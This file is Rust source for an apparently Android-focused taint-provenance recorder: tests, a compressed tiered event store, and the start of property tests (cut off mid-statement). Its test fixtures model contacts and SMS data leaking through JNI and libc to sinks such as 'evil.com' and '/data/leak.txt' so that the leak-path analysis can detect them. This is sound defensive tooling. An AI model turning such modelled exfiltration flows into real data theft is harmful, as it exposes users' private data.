        let child = parent.fork();
        assert_eq!(child.recorded(), 2);
        assert_eq!(child.dropped(), 0);
        assert_eq!(child.snapshot(), parent.snapshot());

        // Divergent tails stay private to each side.
        parent.emit(ProvEvent::Source {
            label: 0x8,
            api: "p".into(),
        });
        child.emit(ProvEvent::Source {
            label: 0x10,
            api: "c".into(),
        });
        assert_eq!(parent.recorded(), 3);
        assert_eq!(child.recorded(), 3);
        let pv = parent.snapshot();
        let cv = child.snapshot();
        assert_eq!(pv.len(), 3);
        assert_eq!(cv.len(), 3);
        assert_eq!(pv[..2], cv[..2]);
        assert_ne!(pv[2], cv[2]);
    }

    #[test]
    fn fork_of_off_handle_stays_off_and_free() {
        let off = Handle::new(Level::Off);
        let fork = off.fork();
        assert!(!fork.is_on());
        assert_eq!(fork.level(), Level::Off);
        fork.emit(ProvEvent::Source {
            label: 0x1,
            api: "ignored".into(),
        });
        assert_eq!(fork.recorded(), 0);
    }

    #[test]
    fn sealed_base_evicts_oldest_first_with_exact_drop_count() {
        let mut ring = Ring::new(4);
        for i in 0..4u32 {
            ring.push(ProvEvent::Source {
                label: i,
                api: "s".into(),
            });
        }
        ring.seal();
        let mut fork = ring.clone();
        // Overflow the fork: eviction must consume the shared base
        // logically (oldest first) without disturbing the original.
        for i in 4..7u32 {
            fork.push(ProvEvent::Source {
                label: i,
                api: "s".into(),
            });
        }
        let labels: Vec<u32> = fork
            .events()
            .map(|e| match e {
                ProvEvent::Source { label, .. } => *label,
                _ => unreachable!(),
            })
            .collect();
        assert_eq!(labels, vec![3, 4, 5, 6]);
        assert_eq!(fork.recorded(), 7);
        assert_eq!(fork.dropped(), 3);
        assert_eq!(ring.len(), 4);
        assert_eq!(ring.dropped(), 0);

        // Re-sealing a partially evicted ring compacts it and keeps
        // the observable stream identical.
        fork.seal();
        let after: Vec<u32> = fork
            .events()
            .map(|e| match e {
                ProvEvent::Source { label, .. } => *label,
                _ => unreachable!(),
            })
            .collect();
        assert_eq!(after, vec![3, 4, 5, 6]);
        assert_eq!(fork.dropped(), 3);
    }

    fn source(label: u32, api: &str) -> ProvEvent {
        ProvEvent::Source {
            label,
            api: api.into(),
        }
    }

    fn sink(label: u32, sink_name: &str, dest: &str) -> ProvEvent {
        ProvEvent::Sink {
            sink: sink_name.into(),
            dest: dest.into(),
            label,
            ctx: SinkCtx::Native,
        }
    }

    /// The qq_phonebook shape: two sources merge, cross JNI, pass
    /// through libc, and exit at one sink carrying both bits.
    fn qq_like_stream() -> Vec<ProvEvent> {
        vec![
            source(0x2, "ContactsProvider.query"),
            source(0x200, "SmsProvider.query"),
            ProvEvent::JniEntry {
                method: "Lcom/qq/Jni;.makeLoginRequestPackageMd5".into(),
                label: 0x202,
            },
            ProvEvent::Transfer {
                api: "GetStringUTFChars".into(),
                label: 0x202,
                direction: Direction::JavaToNative,
            },
            ProvEvent::Libc {
                func: "strcpy".into(),
                label: 0x202,
            },
            ProvEvent::Transfer {
                api: "NewStringUTF".into(),
                label: 0x202,
                direction: Direction::NativeToJava,
            },
            ProvEvent::JniExit {
                method: "Lcom/qq/Jni;.getPostUrl".into(),
                label: 0x202,
            },
            ProvEvent::Sink {
                sink: "HttpClient.post".into(),
                dest: "sync.3g.qq.com".into(),
                label: 0x202,
                ctx: SinkCtx::Java,
            },
        ]
    }

    #[test]
    fn ring_is_bounded_with_exact_drop_counter() {
        let mut r = Ring::new(3);
        for i in 0..5u32 {
            r.push(source(1 << i, "s"));
        }
        assert_eq!(r.len(), 3);
        assert_eq!(r.recorded(), 5);
        assert_eq!(r.dropped(), 2);
        // Oldest-first eviction: 0 and 1 are gone, 2..5 remain.
        let labels: Vec<u32> = r.events().map(ProvEvent::label).collect();
        assert_eq!(labels, vec![4, 8, 16]);
    }

    #[test]
    fn zero_capacity_ring_never_panics() {
        let mut r = Ring::new(0);
        for _ in 0..10 {
            r.push(source(1, "s"));
        }
        assert!(r.is_empty());
        assert_eq!(r.dropped(), 10);
        assert_eq!(r.recorded(), 10);
    }

    #[test]
    fn off_handle_records_nothing() {
        let h = Handle::new(Level::Off);
        assert!(!h.is_on());
        h.emit(source(1, "s"));
        assert!(h.snapshot().is_empty());
        assert_eq!(h.recorded(), 0);
        assert!(h.summary().is_none());
    }

    #[test]
    fn clones_share_one_stream() {
        let a = Handle::new(Level::Summary);
        let b = a.clone();
        a.emit(source(0x2, "contacts"));
        b.emit(sink(0x2, "send", "evil.com"));
        let events = a.snapshot();
        assert_eq!(events.len(), 2);
        assert!(events[1].is_sink());
    }

    #[test]
    fn leak_path_walks_source_to_sink_per_bit() {
        let g = FlowGraph::build(&qq_like_stream());
        let sinks = g.sinks();
        assert_eq!(sinks, vec![7]);
        let paths = g.leak_paths(7);
        assert_eq!(paths.len(), 2, "one path per label bit");
        let contacts = &paths[0];
        assert_eq!(contacts.label, 0x2);
        assert_eq!(contacts.nodes, vec![0, 2, 3, 4, 5, 6, 7]);
        let sms = &paths[1];
        assert_eq!(sms.label, 0x200);
        assert_eq!(sms.nodes, vec![1, 2, 3, 4, 5, 6, 7]);
        // Endpoints: a source first, the sink last.
        assert!(matches!(g.events()[contacts.nodes[0]], ProvEvent::Source { .. }));
        assert!(g.events()[*contacts.nodes.last().unwrap()].is_sink());
        assert_eq!(g.total_leak_paths(), 2);
    }

    #[test]
    fn clean_sink_has_no_paths() {
        let g = FlowGraph::build(&[source(0x2, "contacts"), sink(0, "send", "host")]);
        assert_eq!(g.leak_paths(1), Vec::new());
        assert_eq!(g.total_leak_paths(), 0);
        // Non-sink and out-of-range queries are empty, not panics.
        assert!(g.leak_paths(0).is_empty());
        assert!(g.leak_paths(99).is_empty());
    }

    #[test]
    fn dot_and_json_are_deterministic() {
        let g = FlowGraph::build(&qq_like_stream());
        let dot = g.to_dot();
        assert!(dot.starts_with("digraph provenance {"));
        assert!(dot.contains("doubleoctagon"));
        assert!(dot.contains("sync.3g.qq.com"));
        assert_eq!(dot, FlowGraph::build(&qq_like_stream()).to_dot());
        let json = g.to_json();
        assert!(json.starts_with("{\"events\":["));
        assert!(json.contains("[6,7,2]"), "jni-exit -> sink edge for bit 0x2");
    }

    #[test]
    fn fingerprint_tracks_content() {
        let a = FlowGraph::build(&qq_like_stream());
        let b = FlowGraph::build(&qq_like_stream());
        assert_eq!(a.fingerprint(), b.fingerprint());
        let mut other = qq_like_stream();
        other.pop();
        let c = FlowGraph::build(&other);
        assert_ne!(a.fingerprint(), c.fingerprint());
    }

    #[test]
    fn summary_digests_the_handle() {
        let h = Handle::new(Level::Full);
        for ev in qq_like_stream() {
            h.emit(ev);
        }
        let s = h.summary().unwrap();
        assert_eq!(s.level, Level::Full);
        assert_eq!(s.recorded, 8);
        assert_eq!(s.dropped, 0);
        assert_eq!(s.leak_paths, 2);
        assert_eq!(s.fingerprint, h.flow_graph().fingerprint());
    }

    #[test]
    fn levels_display() {
        assert_eq!(Level::Off.to_string(), "off");
        assert_eq!(Level::Summary.to_string(), "summary");
        assert_eq!(Level::Full.to_string(), "full");
    }
}
