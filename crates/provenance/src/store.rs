//! The tiered provenance store: a hot [`Ring`] in front of immutable,
//! delta/varint-compressed **sealed segments**.
//!
//! The PR 5 ring is bounded and lossy by design — fine for one app,
//! wrong at fleet scale where the evidence trail *is* the product
//! (μDep-style taint-killing variants are distinguished only by the
//! recorded transform chain). The tiered store keeps the ring as the
//! hot tier and, instead of evicting on overflow, compacts the ring's
//! contents into a [`SealedSegment`]: a per-segment interned string
//! table plus a tag/varint byte stream (monotonic pc deltas for
//! native-block runs, single-byte labels for the common few-bit
//! masks), roughly 3–10 bytes per event against the ~56-byte in-memory
//! [`ProvEvent`].
//!
//! Each segment's header carries its **label-bit union**, a **kind
//! mask** (one bit per [`EventKind`]) and a **bloom-style name
//! filter** over source APIs and sink names, so reconstruction and
//! [`crate::ProvQuery`] skip irrelevant segments without decoding
//! them. The filters are conservative: they may admit a segment that
//! turns out to hold no match (bloom false positive — extra decode
//! work), but they never skip a segment holding a relevant event.
//!
//! Segments are `Arc`-shared: snapshot forks clone the segment list by
//! refcount bump (the PR 8 sealed-base trick, one tier up), and the
//! frozen [`ProvStore`] view is `Send + Sync` so it can ride on
//! `RunReport` across the batch farm's worker threads.

use std::collections::HashMap;
use std::sync::Arc;

use crate::varint;
use crate::{Direction, ProvEvent, Ring, SinkCtx};

/// The seven event shapes, as bits of a segment's
/// [`SealedSegment::kind_mask`] and as query filters
/// ([`crate::ProvQuery::kind`]).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum EventKind {
    /// [`ProvEvent::Source`]
    Source = 0,
    /// [`ProvEvent::JniEntry`]
    JniEntry = 1,
    /// [`ProvEvent::JniExit`]
    JniExit = 2,
    /// [`ProvEvent::Transfer`]
    Transfer = 3,
    /// [`ProvEvent::Libc`]
    Libc = 4,
    /// [`ProvEvent::NativeBlock`]
    NativeBlock = 5,
    /// [`ProvEvent::Sink`]
    Sink = 6,
}

impl EventKind {
    /// Every kind, in tag order.
    pub const ALL: [EventKind; 7] = [
        EventKind::Source,
        EventKind::JniEntry,
        EventKind::JniExit,
        EventKind::Transfer,
        EventKind::Libc,
        EventKind::NativeBlock,
        EventKind::Sink,
    ];

    /// The kind of an event.
    pub fn of(ev: &ProvEvent) -> EventKind {
        match ev {
            ProvEvent::Source { .. } => EventKind::Source,
            ProvEvent::JniEntry { .. } => EventKind::JniEntry,
            ProvEvent::JniExit { .. } => EventKind::JniExit,
            ProvEvent::Transfer { .. } => EventKind::Transfer,
            ProvEvent::Libc { .. } => EventKind::Libc,
            ProvEvent::NativeBlock { .. } => EventKind::NativeBlock,
            ProvEvent::Sink { .. } => EventKind::Sink,
        }
    }

    /// This kind's bit in a [`SealedSegment::kind_mask`].
    pub fn bit(self) -> u8 {
        1 << (self as u8)
    }

    fn from_tag(tag: u8) -> Option<EventKind> {
        EventKind::ALL.get(tag as usize).copied()
    }

    /// Lowercase tag, matching the [`ProvEvent::canonical`] prefix.
    pub fn name(self) -> &'static str {
        match self {
            EventKind::Source => "source",
            EventKind::JniEntry => "jni-entry",
            EventKind::JniExit => "jni-exit",
            EventKind::Transfer => "transfer",
            EventKind::Libc => "libc",
            EventKind::NativeBlock => "native-block",
            EventKind::Sink => "sink",
        }
    }
}

fn fnv64(bytes: &[u8]) -> u64 {
    let mut h = 0xcbf2_9ce4_8422_2325u64;
    for b in bytes {
        h ^= u64::from(*b);
        h = h.wrapping_mul(0x0000_0100_0000_01b3);
    }
    h
}

/// Two bloom bits for a source/sink name in a 64-bit filter word.
fn bloom_mask(name: &str) -> u64 {
    let h = fnv64(name.as_bytes());
    (1 << (h & 63)) | (1 << ((h >> 6) & 63))
}

/// Direction/context flag bit in an encoded event's tag byte.
const TAG_FLAG: u8 = 0x08;

/// An immutable, compressed run of consecutive provenance events.
///
/// Layout: a header (sequence range, label union, kind mask, name
/// bloom), a per-segment string table interned in first-use order, and
/// the event byte stream — per event a tag byte (3-bit kind + flag),
/// a varint label, then kind-specific varint string-table indices; a
/// `NativeBlock` stores its pc as a zigzag delta against the previous
/// block in the segment. Encoding is a pure function of the event
/// stream, so identical streams seal to byte-identical segments on any
/// worker (`Eq` below is what the batch determinism gates compare).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SealedSegment {
    first_seq: u64,
    count: u32,
    label_union: u32,
    kind_mask: u8,
    name_bloom: u64,
    strings: Vec<String>,
    bytes: Vec<u8>,
}

impl SealedSegment {
    /// Seals `events` (whose first element has sequence number
    /// `first_seq`) into a segment.
    pub fn encode<'a>(first_seq: u64, events: impl Iterator<Item = &'a ProvEvent>) -> SealedSegment {
        let mut seg = SealedSegment {
            first_seq,
            count: 0,
            label_union: 0,
            kind_mask: 0,
            name_bloom: 0,
            strings: Vec::new(),
            bytes: Vec::new(),
        };
        let mut intern: HashMap<&'a str, u64> = HashMap::new();
        let mut prev_pc = 0u32;
        for ev in events {
            let kind = EventKind::of(ev);
            let flag = match ev {
                ProvEvent::Transfer {
                    direction: Direction::NativeToJava,
                    ..
                } => TAG_FLAG,
                ProvEvent::Sink {
                    ctx: SinkCtx::Native,
                    ..
                } => TAG_FLAG,
                _ => 0,
            };
            seg.bytes.push(kind as u8 | flag);
            varint::write_u64(&mut seg.bytes, u64::from(ev.label()));
            let mut idx = |s: &'a str, table: &mut Vec<String>, bytes: &mut Vec<u8>| {
                let next = intern.len() as u64;
                let i = *intern.entry(s).or_insert_with(|| {
                    table.push(s.to_string());
                    next
                });
                varint::write_u64(bytes, i);
            };
            match ev {
                ProvEvent::Source { api, .. } => {
                    seg.name_bloom |= bloom_mask(api);
                    idx(api, &mut seg.strings, &mut seg.bytes);
                }
                ProvEvent::JniEntry { method, .. } | ProvEvent::JniExit { method, .. } => {
                    idx(method, &mut seg.strings, &mut seg.bytes);
                }
                ProvEvent::Transfer { api, .. } => {
                    idx(api, &mut seg.strings, &mut seg.bytes);
                }
                ProvEvent::Libc { func, .. } => {
                    idx(func, &mut seg.strings, &mut seg.bytes);
                }
                ProvEvent::NativeBlock { start_pc, insns, .. } => {
                    varint::write_i64(&mut seg.bytes, i64::from(*start_pc) - i64::from(prev_pc));
                    prev_pc = *start_pc;
                    varint::write_u64(&mut seg.bytes, u64::from(*insns));
                }
                ProvEvent::Sink { sink, dest, .. } => {
                    seg.name_bloom |= bloom_mask(sink);
                    idx(sink, &mut seg.strings, &mut seg.bytes);
                    idx(dest, &mut seg.strings, &mut seg.bytes);
                }
            }
            seg.label_union |= ev.label();
            seg.kind_mask |= kind.bit();
            seg.count += 1;
        }
        seg
    }

    /// Decodes the full event stream back out, appending to `out`.
    /// Round-trip is exact: `decode` of an `encode` reproduces the
    /// input events byte-for-byte (pinned by the property suite).
    /// Panics on a corrupt byte stream — segments only ever come from
    /// [`SealedSegment::encode`], so corruption is a program bug, not
    /// an input condition.
    pub fn decode_into(&self, out: &mut Vec<ProvEvent>) {
        const CORRUPT: &str = "corrupt sealed segment";
        out.reserve(self.count as usize);
        let mut pos = 0usize;
        let mut prev_pc = 0u32;
        let string = |i: u64| -> String { self.strings[usize::try_from(i).expect(CORRUPT)].clone() };
        for _ in 0..self.count {
            let tag = *self.bytes.get(pos).expect(CORRUPT);
            pos += 1;
            let kind = EventKind::from_tag(tag & 0x07).expect(CORRUPT);
            let flag = tag & TAG_FLAG != 0;
            let label =
                u32::try_from(varint::read_u64(&self.bytes, &mut pos).expect(CORRUPT)).expect(CORRUPT);
            let read_str = |pos: &mut usize| -> String {
                string(varint::read_u64(&self.bytes, pos).expect(CORRUPT))
            };
            let ev = match kind {
                EventKind::Source => ProvEvent::Source {
                    label,
                    api: read_str(&mut pos),
                },
                EventKind::JniEntry => ProvEvent::JniEntry {
                    method: read_str(&mut pos),
                    label,
                },
                EventKind::JniExit => ProvEvent::JniExit {
                    method: read_str(&mut pos),
                    label,
                },
                EventKind::Transfer => ProvEvent::Transfer {
                    api: read_str(&mut pos),
                    label,
                    direction: if flag {
                        Direction::NativeToJava
                    } else {
                        Direction::JavaToNative
                    },
                },
                EventKind::Libc => ProvEvent::Libc {
                    func: read_str(&mut pos),
                    label,
                },
                EventKind::NativeBlock => {
                    let delta = varint::read_i64(&self.bytes, &mut pos).expect(CORRUPT);
                    let start_pc =
                        u32::try_from(i64::from(prev_pc) + delta).expect(CORRUPT);
                    prev_pc = start_pc;
                    let insns = u32::try_from(varint::read_u64(&self.bytes, &mut pos).expect(CORRUPT))
                        .expect(CORRUPT);
                    ProvEvent::NativeBlock {
                        start_pc,
                        insns,
                        label,
                    }
                }
                EventKind::Sink => {
                    let sink = read_str(&mut pos);
                    let dest = read_str(&mut pos);
                    ProvEvent::Sink {
                        sink,
                        dest,
                        label,
                        ctx: if flag { SinkCtx::Native } else { SinkCtx::Java },
                    }
                }
            };
            out.push(ev);
        }
        assert_eq!(pos, self.bytes.len(), "{CORRUPT}: trailing bytes");
    }

    /// The decoded event stream as a fresh Vec.
    pub fn decode(&self) -> Vec<ProvEvent> {
        let mut out = Vec::new();
        self.decode_into(&mut out);
        out
    }

    /// Sequence number of the segment's first event.
    pub fn first_seq(&self) -> u64 {
        self.first_seq
    }

    /// Number of events in the segment.
    pub fn len(&self) -> usize {
        self.count as usize
    }

    /// Whether the segment holds no events.
    pub fn is_empty(&self) -> bool {
        self.count == 0
    }

    /// Sequence number one past the segment's last event.
    pub fn end_seq(&self) -> u64 {
        self.first_seq + u64::from(self.count)
    }

    /// Union of every held event's label bits. A query for label bits
    /// disjoint from this union can skip the segment exactly (no
    /// false positives here — this filter is precise).
    pub fn label_union(&self) -> u32 {
        self.label_union
    }

    /// One bit per [`EventKind`] present (precise, like the label
    /// union).
    pub fn kind_mask(&self) -> u8 {
        self.kind_mask
    }

    /// Bloom filter over source API and sink names (2 bits each in a
    /// 64-bit word). [`SealedSegment::may_contain_name`] may return
    /// true for an absent name (extra decode), never false for a
    /// present one (missed evidence).
    pub fn name_bloom(&self) -> u64 {
        self.name_bloom
    }

    /// Conservative membership test against the name bloom.
    pub fn may_contain_name(&self, name: &str) -> bool {
        let m = bloom_mask(name);
        self.name_bloom & m == m
    }

    /// Encoded size in bytes: header + string table + event stream.
    /// This is the numerator of the `bytes_per_event` metric in
    /// `BENCH_provenance.json`.
    pub fn encoded_size(&self) -> usize {
        // Header: first_seq + count + label_union + kind_mask + bloom.
        let header = 8 + 4 + 4 + 1 + 8;
        let table: usize = self.strings.iter().map(|s| s.len() + 1).sum();
        header + table + self.bytes.len()
    }
}

/// The tiered (or flat) backend behind [`crate::Handle`].
///
/// **Flat** (`Store::new`): exactly the legacy bounded ring — overflow
/// evicts oldest and counts the drop. **Tiered** (`Store::tiered`):
/// when the hot ring is about to overflow (or on an explicit
/// [`Store::seal_segment`]), its contents are compacted into a
/// [`SealedSegment`] instead and the ring is emptied — nothing is ever
/// dropped, and sequence numbers keep running through both tiers.
#[derive(Debug, Clone, Default)]
pub struct Store {
    hot: Ring,
    tiered: bool,
    segments: Vec<Arc<SealedSegment>>,
    /// Events held across all sealed segments (sum of their counts).
    sealed_len: u64,
}

impl Store {
    /// A flat store: the legacy bounded ring, nothing more.
    pub fn new(cap: usize) -> Store {
        Store {
            hot: Ring::new(cap),
            tiered: false,
            segments: Vec::new(),
            sealed_len: 0,
        }
    }

    /// A tiered store with a hot ring of `cap` events. A zero `cap`
    /// degrades to the flat drop-everything ring behavior (an empty
    /// hot tier can never be sealed), never a panic.
    pub fn tiered(cap: usize) -> Store {
        Store {
            hot: Ring::new(cap),
            tiered: true,
            segments: Vec::new(),
            sealed_len: 0,
        }
    }

    /// Whether overflow seals (tiered) rather than drops (flat).
    pub fn is_tiered(&self) -> bool {
        self.tiered
    }

    /// Appends an event. Tiered: seals the hot tier first when it is
    /// full, so the push itself never evicts. Flat: the legacy
    /// evict-oldest-and-count behavior.
    pub fn push(&mut self, ev: ProvEvent) {
        if self.tiered && self.hot.capacity() > 0 && self.hot.len() >= self.hot.capacity() {
            self.seal_segment();
        }
        self.hot.push(ev);
    }

    /// Compacts the hot tier's current events into a sealed segment
    /// (no-op when the hot tier is empty). Counters and sequence
    /// numbers are unaffected: the events move tiers, they are not
    /// dropped.
    pub fn seal_segment(&mut self) {
        if self.hot.is_empty() {
            return;
        }
        let seg = SealedSegment::encode(self.hot.first_seq(), self.hot.events());
        self.sealed_len += u64::from(seg.count);
        self.segments.push(Arc::new(seg));
        self.hot.clear_held();
    }

    /// The sealed segments, oldest first.
    pub fn segments(&self) -> &[Arc<SealedSegment>] {
        &self.segments
    }

    /// The hot tier.
    pub fn hot(&self) -> &Ring {
        &self.hot
    }

    /// Events currently held across both tiers.
    pub fn len(&self) -> usize {
        self.sealed_len as usize + self.hot.len()
    }

    /// Whether no events are held.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// Total events offered (held + dropped).
    pub fn recorded(&self) -> u64 {
        self.hot.recorded()
    }

    /// Events dropped — exact; always 0 for a tiered store with
    /// nonzero hot capacity.
    pub fn dropped(&self) -> u64 {
        self.hot.dropped()
    }

    /// The full held event stream, oldest first: sealed segments
    /// decoded in order, then the hot tier.
    pub fn events_vec(&self) -> Vec<ProvEvent> {
        let mut out = Vec::with_capacity(self.len());
        for seg in &self.segments {
            seg.decode_into(&mut out);
        }
        out.extend(self.hot.events().cloned());
        out
    }

    /// Leak-path count with sink-guided segment skipping. The flow
    /// graph yields exactly one leak path per set bit of every sink
    /// event's label, so the count needs only the sink events: decode
    /// only segments whose kind mask contains [`EventKind::Sink`] and
    /// scan the hot tier. Returns `(count, segments_decoded)`.
    pub fn count_leak_paths(&self) -> (usize, u32) {
        let mut count = 0usize;
        let mut decoded = 0u32;
        let mut scratch = Vec::new();
        for seg in &self.segments {
            if seg.kind_mask() & EventKind::Sink.bit() == 0 {
                continue;
            }
            decoded += 1;
            scratch.clear();
            seg.decode_into(&mut scratch);
            for ev in &scratch {
                if ev.is_sink() {
                    count += ev.label().count_ones() as usize;
                }
            }
        }
        for ev in self.hot.events() {
            if ev.is_sink() {
                count += ev.label().count_ones() as usize;
            }
        }
        (count, decoded)
    }

    /// An independent store continuing from this one's exact contents
    /// and counters: sealed segments are shared by refcount bump, the
    /// hot ring is sealed ([`Ring::seal`]) so the fork shares its
    /// prefix copy-on-write.
    pub fn fork(&mut self) -> Store {
        self.hot.seal();
        Store {
            hot: self.hot.clone(),
            tiered: self.tiered,
            segments: self.segments.clone(),
            sealed_len: self.sealed_len,
        }
    }

    /// A frozen, thread-safe ([`Send`] + [`Sync`]) view: sealed
    /// segments shared by refcount, the hot tier copied once into an
    /// immutable tail. Repeated freezes of an unchanged store are
    /// equal ([`ProvStore`] is `Eq`).
    pub fn freeze(&self) -> ProvStore {
        let tail: Vec<ProvEvent> = self.hot.events().cloned().collect();
        ProvStore {
            segments: self.segments.clone(),
            tail: Arc::from(tail),
            tail_first_seq: self.hot.first_seq(),
            recorded: self.hot.recorded(),
            dropped: self.hot.dropped(),
        }
    }
}

/// A frozen provenance store: the `Send + Sync` view that rides on
/// `RunReport` across worker threads and feeds [`crate::ProvQuery`] /
/// `BatchReport` merging. Cloning bumps refcounts; equality compares
/// segment and tail *contents*, so reports stay byte-comparable across
/// worker counts.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ProvStore {
    segments: Vec<Arc<SealedSegment>>,
    tail: Arc<[ProvEvent]>,
    tail_first_seq: u64,
    recorded: u64,
    dropped: u64,
}

impl ProvStore {
    /// The sealed segments, oldest first.
    pub fn segments(&self) -> &[Arc<SealedSegment>] {
        &self.segments
    }

    /// The hot-tier events frozen at snapshot time, oldest first.
    pub fn tail(&self) -> &[ProvEvent] {
        &self.tail
    }

    /// Sequence number of the first tail event.
    pub fn tail_first_seq(&self) -> u64 {
        self.tail_first_seq
    }

    /// Events held (sealed + tail).
    pub fn len(&self) -> usize {
        self.segments.iter().map(|s| s.len()).sum::<usize>() + self.tail.len()
    }

    /// Whether no events are held.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// Total events offered to the live store at freeze time.
    pub fn recorded(&self) -> u64 {
        self.recorded
    }

    /// Events the live store had dropped at freeze time (exact).
    pub fn dropped(&self) -> u64 {
        self.dropped
    }

    /// The full held event stream, oldest first.
    pub fn events_vec(&self) -> Vec<ProvEvent> {
        let mut out = Vec::with_capacity(self.len());
        for seg in &self.segments {
            seg.decode_into(&mut out);
        }
        out.extend(self.tail.iter().cloned());
        out
    }

    /// Total encoded bytes across sealed segments (see
    /// [`SealedSegment::encoded_size`]).
    pub fn encoded_size(&self) -> usize {
        self.segments.iter().map(|s| s.encoded_size()).sum()
    }
}
