//! Tiered-store round-trip properties: for any generated event stream
//! the seal→decode cycle must reproduce the exact `ProvEvent`s and the
//! exact FNV flow-graph fingerprint the flat ring would have produced
//! (nothing dropped), the varint encoding must stay under the
//! compression bound the bench gate enforces, and the query layer must
//! agree with a naive scan. Failures replay with `TESTKIT_SEED`.

use ndroid_provenance::{
    Direction, FlowGraph, Handle, Level, ProvEvent, ProvQuery, Ring, SinkCtx, Store,
};
use ndroid_testkit::prelude::*;

const APIS: [&str; 4] = [
    "ContactsProvider.query",
    "SmsProvider.query",
    "TelephonyManager.getDeviceId",
    "LocationManager.getLastKnownLocation",
];
const METHODS: [&str; 3] = [
    "Lcom/app/Jni;.pack",
    "Lcom/app/Jni;.encode",
    "Lcom/qq/Jni;.makeLoginRequestPackageMd5",
];
const FUNCS: [&str; 4] = ["strcpy", "memcpy", "sprintf", "strdup"];
const SINKS: [&str; 3] = ["send", "write", "HttpClient.post"];
const DESTS: [&str; 3] = ["evil.com", "/data/leak.txt", "sync.3g.qq.com"];

/// Deterministically maps a generated `(selector, label, aux)` triple
/// to one of the seven event shapes, drawing names from small pools so
/// segment string-interning sees realistic reuse.
fn event(sel: u8, label: u32, aux: u32) -> ProvEvent {
    let a = aux as usize;
    match sel % 7 {
        0 => ProvEvent::Source {
            label,
            api: APIS[a % APIS.len()].into(),
        },
        1 => ProvEvent::JniEntry {
            method: METHODS[a % METHODS.len()].into(),
            label,
        },
        2 => ProvEvent::JniExit {
            method: METHODS[a % METHODS.len()].into(),
            label,
        },
        3 => ProvEvent::Transfer {
            api: if a % 2 == 0 {
                "GetStringUTFChars".into()
            } else {
                "NewStringUTF".into()
            },
            label,
            direction: if a % 2 == 0 {
                Direction::JavaToNative
            } else {
                Direction::NativeToJava
            },
        },
        4 => ProvEvent::Libc {
            func: FUNCS[a % FUNCS.len()].into(),
            label,
        },
        5 => ProvEvent::NativeBlock {
            start_pc: 0x8000_0000u32.wrapping_add(aux.wrapping_mul(4) & 0xf_fffc),
            insns: 1 + aux % 61,
            label,
        },
        _ => ProvEvent::Sink {
            sink: SINKS[a % SINKS.len()].into(),
            dest: DESTS[(a / 3) % DESTS.len()].into(),
            label,
            ctx: if a % 2 == 0 { SinkCtx::Java } else { SinkCtx::Native },
        },
    }
}

fn stream(raw: &[(u8, u32, u32)]) -> Vec<ProvEvent> {
    raw.iter().map(|&(s, l, a)| event(s, l, a)).collect()
}

proptest! {
    /// The acceptance property: seal→decode reproduces the exact
    /// event stream, nothing is ever dropped, and the graph
    /// fingerprint equals the flat ring's for the same events — so
    /// every existing fingerprint gate is invariant under the tiered
    /// backend.
    #[test]
    fn seal_decode_reproduces_stream_and_fingerprint(
        hot_cap in 1usize..48,
        raw in collection::vec((any::<u8>(), any::<u32>(), any::<u32>()), 0..256),
    ) {
        let events = stream(&raw);
        let tiered = Handle::tiered(Level::Full, hot_cap);
        let flat = Handle::with_capacity(Level::Full, events.len().max(1));
        for ev in &events {
            tiered.emit(ev.clone());
            flat.emit(ev.clone());
        }
        prop_assert_eq!(tiered.dropped(), 0u64, "tiered never drops");
        prop_assert_eq!(tiered.recorded(), events.len() as u64);
        prop_assert_eq!(tiered.snapshot(), events.clone());
        prop_assert_eq!(
            FlowGraph::build(&tiered.snapshot()).fingerprint(),
            FlowGraph::build(&flat.snapshot()).fingerprint()
        );
        // The summary digests match across backends except for the
        // tier counters, and the sink-guided leak-path count equals
        // the graph walk.
        let ts = tiered.summary().expect("on");
        let fs = flat.summary().expect("on");
        prop_assert_eq!(ts.fingerprint, fs.fingerprint);
        prop_assert_eq!(ts.leak_paths, fs.leak_paths);
        prop_assert_eq!(
            ts.leak_paths,
            FlowGraph::build(&events).total_leak_paths()
        );
        prop_assert!(ts.segments_decoded <= ts.segments);
    }

    /// Sealing is deterministic: the same stream through two tiered
    /// stores produces byte-identical segments (`SealedSegment` is
    /// `Eq` over contents), the invariant the worker-count gates rest
    /// on. The frozen view inherits it.
    #[test]
    fn sealing_is_a_pure_function_of_the_stream(
        hot_cap in 1usize..16,
        raw in collection::vec((any::<u8>(), any::<u32>(), any::<u32>()), 0..96),
    ) {
        let events = stream(&raw);
        let mut a = Store::tiered(hot_cap);
        let mut b = Store::tiered(hot_cap);
        for ev in &events {
            a.push(ev.clone());
            b.push(ev.clone());
        }
        prop_assert_eq!(a.segments(), b.segments());
        prop_assert_eq!(a.freeze(), b.freeze());
        // Freezing is non-destructive and idempotent.
        prop_assert_eq!(a.freeze(), a.freeze());
        prop_assert_eq!(a.events_vec(), events);
    }

    /// The compression bound behind the BENCH_provenance gate: with
    /// realistically reused names and non-trivial segments, sealed
    /// events take at most 40% of the in-memory `ProvEvent` size.
    #[test]
    fn encoded_size_is_under_the_compression_bound(
        raw in collection::vec((any::<u8>(), 0u32..0x1000, any::<u32>()), 192..512),
    ) {
        let events = stream(&raw);
        let mut store = Store::tiered(64);
        for ev in &events {
            store.push(ev.clone());
        }
        store.seal_segment();
        let frozen = store.freeze();
        let encoded = frozen.encoded_size();
        let sealed_events: usize = frozen.segments().iter().map(|s| s.len()).sum();
        prop_assert_eq!(sealed_events, events.len());
        let in_memory = sealed_events * std::mem::size_of::<ProvEvent>();
        prop_assert!(
            encoded * 10 <= in_memory * 4,
            "encoded {} bytes for {} events (in-memory {})",
            encoded, sealed_events, in_memory
        );
    }

    /// Query-layer agreement: a label query over the frozen store
    /// returns exactly the events a naive scan selects, in order, with
    /// correct sequence numbers — regardless of how the stream was cut
    /// into segments.
    #[test]
    fn label_query_agrees_with_naive_scan(
        hot_cap in 1usize..24,
        bits in 1u32..0x20,
        raw in collection::vec((any::<u8>(), 0u32..0x40, any::<u32>()), 0..128),
    ) {
        let events = stream(&raw);
        let mut store = Store::tiered(hot_cap);
        for ev in &events {
            store.push(ev.clone());
        }
        let frozen = store.freeze();
        let result = ProvQuery::new().label(bits).run(&frozen);
        let naive: Vec<(u64, ProvEvent)> = events
            .iter()
            .enumerate()
            .filter(|(_, e)| e.label() & bits != 0)
            .map(|(i, e)| (i as u64, e.clone()))
            .collect();
        let got: Vec<(u64, ProvEvent)> =
